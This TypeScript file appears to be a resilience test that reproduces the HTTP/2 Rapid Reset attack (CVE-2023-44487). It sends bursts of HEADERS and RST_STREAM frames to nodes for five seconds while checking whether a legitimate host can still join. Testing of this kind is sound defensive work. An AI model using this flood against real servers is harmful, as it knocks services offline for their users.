import { FLAG, FRAME, frame, headerBlock, keepSending, SESSION_HEADERS } from '../wire/http2-frames.ts';
import { joinNode } from '../wire/node.ts';
import { given, report, sleep } from './given.ts';

/** Calls that are given up in the moment they are made (CVE-2023-44487), while a host behind the same address joins. */
const { nodes, secret } = given<{ secret: string }>();
const block = headerBlock(SESSION_HEADERS);
const cancel = Buffer.from([0, 0, 0, 8]);
const joined = joinMeanwhile();
const { bytes } = await keepSending({ port: nodes, forMs: 5_000 }, () => {
  let stream = -1;
  return () => {
    const calls = Array.from({ length: 50 }, () => {
      stream += 2;
      return Buffer.concat([
        frame(FRAME.headers, FLAG.endHeaders, stream, block),
        frame(FRAME.reset, 0, stream, cancel),
      ]);
    });
    return Buffer.concat(calls);
  };
});
report({ bytes, attempts: await joined });

/** Tries again as a daemon does. Returns how often it had to. */
async function joinMeanwhile(): Promise<number> {
  await sleep(1_000);
  for (let attempts = 1; attempts <= 10; attempts += 1) {
    const isIn = await joinNode(secret).then(
      () => true,
      () => false,
    );
    if (isIn) return attempts;
    await sleep(1_000);
  }
  throw new Error('the host behind the same address did not get in');
}
